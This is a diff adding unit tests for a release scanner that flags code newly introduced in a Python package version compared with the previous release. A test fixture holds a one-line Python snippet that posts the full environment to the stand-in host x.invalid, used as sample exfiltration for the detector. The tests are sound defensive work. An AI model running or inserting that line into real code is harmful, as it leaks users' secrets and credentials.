@@ -52,6 +52,82 @@ describe('chooseFiles', () => {
   });
 });
 
+describe('scanReleaseCode: new in this release', () => {
+  const history = (files: Record<string, DistributionFile[]>) => ({
+    releases: ['0.9', '1.0', '1.1'].map((version) => ({
+      version,
+      uploadedAt: '2026-01-01T00:00:00Z',
+      fileCount: 1,
+      yanked: false,
+      yankedReason: null,
+      isPrerelease: false,
+    })),
+    filesOf: async (version: string) => files[version] ?? [],
+  });
+  const leak = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;
+
+  it('two synthetic wheels: the previous one clean, the viewed one exfiltrating → marked new; its wheel scanned, not its sdist', async () => {
+    const prevBody = syntheticWheel({ 'synthetic_newly/__init__.py': 'import requests\n' });
+    const viewedBody = syntheticWheel({ 'synthetic_newly/__init__.py': leak });
+    const prev = file('synthetic_newly-1.0-py3-none-any.whl', prevBody);
+    const prevSdist = file('synthetic-newly-1.0.tar.gz', prevBody);
+    const viewed = file('synthetic_newly-1.1-py3-none-any.whl', viewedBody);
+    const { http, requested } = serve({ [prev.url]: prevBody, [viewed.url]: viewedBody });
+    const section = await scanReleaseCode(
+      http,
+      { name: 'synthetic-newly', version: '1.1', files: [viewed], allowLarge: false, history: history({ '1.0': [prevSdist, prev] }) },
+      now,
+    );
+    if (section.state !== 'ok') throw new Error(section.state);
+    expect(section.data.comparedWith).toEqual({ version: '1.0', state: 'compared', reason: null });
+    expect(section.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.check} ${f.newInRelease}`)).toEqual([
+      'exfiltration true',
+    ]);
+    expect(requested.sort()).toEqual([prev.url, viewed.url].sort());
+  });
+
+  it('the same code in both releases, at another line, is not new', async () => {
+    const prevBody = syntheticWheel({ 'synthetic_same/__init__.py': leak });
+    const viewedBody = syntheticWheel({ 'synthetic_same/__init__.py': `X = 1\n\n\n${leak}` });
+    const prev = file('synthetic_same-1.0-py3-none-any.whl', prevBody);
+    const viewed = file('synthetic_same-1.1-py3-none-any.whl', viewedBody);
+    const { http } = serve({ [prev.url]: prevBody, [viewed.url]: viewedBody });
+    const section = await scanReleaseCode(
+      http,
+      { name: 'synthetic-same', version: '1.1', files: [viewed], allowLarge: false, history: history({ '1.0': [prev] }) },
+      now,
+    );
+    if (section.state !== 'ok') throw new Error(section.state);
+    expect(section.data.findings.filter((f) => f.level === 'danger').map((f) => `${f.check} ${f.line} ${f.newInRelease}`)).toEqual([
+      'exfiltration 5 false',
+    ]);
+  });
+
+  it('nothing worrying in the viewed release: the previous one is not downloaded; too large: not compared, and says why', async () => {
+    const cleanBody = syntheticWheel({ 'synthetic_quiet/__init__.py': 'X = 1\n' });
+    const clean = file('synthetic_quiet-1.1-py3-none-any.whl', cleanBody);
+    const prev = file('synthetic_quiet-1.0-py3-none-any.whl', cleanBody, { size: AUTO_SCAN_MAX_BYTES + 1 });
+    const { http, requested } = serve({ [clean.url]: cleanBody });
+    const quiet = await scanReleaseCode(
+      http,
+      { name: 'synthetic-quiet', version: '1.1', files: [clean], allowLarge: false, history: history({ '1.0': [prev] }) },
+      now,
+    );
+    expect(quiet.state === 'ok' && quiet.data.comparedWith).toBeNull();
+    expect(requested).toEqual([clean.url]);
+    const leakBody = syntheticWheel({ 'synthetic_big/__init__.py': leak });
+    const leaking = file('synthetic_big-1.1-py3-none-any.whl', leakBody);
+    const big = serve({ [leaking.url]: leakBody });
+    const section = await scanReleaseCode(
+      big.http,
+      { name: 'synthetic-big', version: '1.1', files: [leaking], allowLarge: false, history: history({ '1.0': [prev] }) },
+      now,
+    );
+    expect(section.state === 'ok' && section.data.comparedWith).toMatchObject({ version: '1.0', state: 'not-compared' });
+    expect(big.requested).toEqual([leaking.url]);
+  });
+});
+
 describe('scanReleaseCode', () => {
   it('downloads, scans and caches the result by sha256: a second scan makes no request', async () => {
     const { http, requested } = serve({ [sdist.url]: sdistBody, [wheel.url]: wheelBody });
